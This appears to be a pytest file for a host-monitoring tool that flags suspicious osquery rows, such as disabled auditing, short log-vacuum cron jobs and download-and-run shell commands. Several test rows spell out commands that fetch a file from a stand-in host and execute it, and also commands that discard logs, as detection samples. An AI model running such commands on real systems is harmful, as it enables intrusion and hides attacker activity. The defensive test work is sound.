"""What a row permits, one reading an idea: the telling one beside the honest one."""

from __future__ import annotations

import pytest

from bot.analysis.rarity import family
from bot.analysis.semantics import Kind
from bot.model import Row
from tests.analysis.test_traits import process, words

BOOT = "BOOT_IMAGE=/boot/vmlinuz ro console=ttyS0"
SERVICE = {"username": "games", "uid": "5", "shell": "/usr/sbin/nologin"}


@pytest.mark.parametrize(
    ("kind", "row", "expected", "said"),
    [
        (Kind.PROCESS, process("/usr/bin/tor"), None, "past its firewall"),
        (Kind.UNIT, {"id": "tailscaled.service"}, None, "past its firewall"),
        (Kind.FILE, {"path": "/usr/local/bin/velociraptor_client"}, None, "past its firewall"),
        (Kind.PROCESS, process("/var/lib/misc/qemu-system-x86_64"), None, "where programs seldom lie"),
        (Kind.MOUNT, {"path": "/var/log/audit", "type": "xfs"}, None, "covers the host's logs"),
        (Kind.SYSCTL, {"name": "boot arguments", "current_value": f"{BOOT} audit=0"}, {"current_value": BOOT}, "protection switched off"),
        (Kind.USER, {**SERVICE, "password_status": "active"}, {**SERVICE, "password_status": "locked"}, "now has a password"),
        (Kind.CRON, {"command": "root journalctl --rotate --vacuum-time=20min"}, None, "throws away logs"),
        (Kind.PROCESS, process("/usr/bin/aws", "aws ssm start-session --target i-0"), None, "commands other hosts"),
        (Kind.PROCESS, process("/usr/bin/bash", "sh -c (wget -qO /var/tmp/x http://x.example/x);sh /var/tmp/x"), None, "downloads something and runs it"),
        (Kind.PROCESS, process("/usr/bin/bash", "sh -c curl -so /opt/x https://x.example/x && chmod +x /opt/x"), None, "downloads something and runs it"),
        (Kind.FIREWALL, {"target": "DROP", "chain": "INPUT"}, None, "closes something"),
    ],
)  # fmt: skip
def test_a_telling_row_is_read(kind: Kind, row: Row, expected: Row | None, said: str) -> None:
    """Each by what osquery's columns say."""
    assert said in words(kind, row, expected=expected)


@pytest.mark.parametrize(
    ("kind", "row", "expected"),
    [
        (Kind.PROCESS, process("/usr/bin/monitor"), None),
        (Kind.UNIT, {"id": "actor.service"}, None),
        (Kind.PROCESS, process("/var/lib/jenkins/tools/jdk/bin/java"), None),
        (Kind.MOUNT, {"path": "/var/lib/data", "type": "xfs"}, None),
        (Kind.SYSCTL, {"name": "boot arguments", "current_value": f"{BOOT} quiet"}, {"current_value": BOOT}),
        (Kind.SYSCTL, {"name": "boot arguments", "current_value": BOOT}, {"current_value": f"{BOOT} audit=0"}),
        (Kind.USER, {**SERVICE, "uid": "1000", "password_status": "active"}, {**SERVICE, "password_status": "locked"}),
        (Kind.CRON, {"command": "root journalctl --vacuum-time=30d"}, None),
        (Kind.CRON, {"command": "root journalctl --vacuum-size=500M"}, None),
        (Kind.PROCESS, process("/usr/bin/aws", "aws ssm get-parameter --name x"), None),
        (Kind.PROCESS, process("/usr/bin/curl", "curl -o /opt/x.tar.gz https://x.example/x.tar.gz"), None),
        (Kind.FIREWALL, {"target": "DROP", "chain": "OUTPUT"}, None),
        (Kind.FILE, {"path": "/etc/.gitignore"}, None),
    ],
)  # fmt: skip
def test_an_honest_row_is_not(kind: Kind, row: Row, expected: Row | None) -> None:
    """Its like is seen on honest hosts every day."""
    assert words(kind, row, expected=expected) == ""


def test_an_authority_is_counted_among_authorities() -> None:
    """That each host has a certificate for itself makes no new authority ordinary; nor do keys of people one for root."""
    columns = ("sha1", "common_name", "ca", "self_signed")
    keys = ("username", "key_file")

    authority, own = (family(Kind.CERTIFICATE, columns, ("ab", "x", ca, "1")) for ca in ("1", "0"))
    root, person = (family(Kind.LOGIN_KEY, keys, (name, "x")) for name in ("root", "ada"))

    assert authority != own
    assert root != person
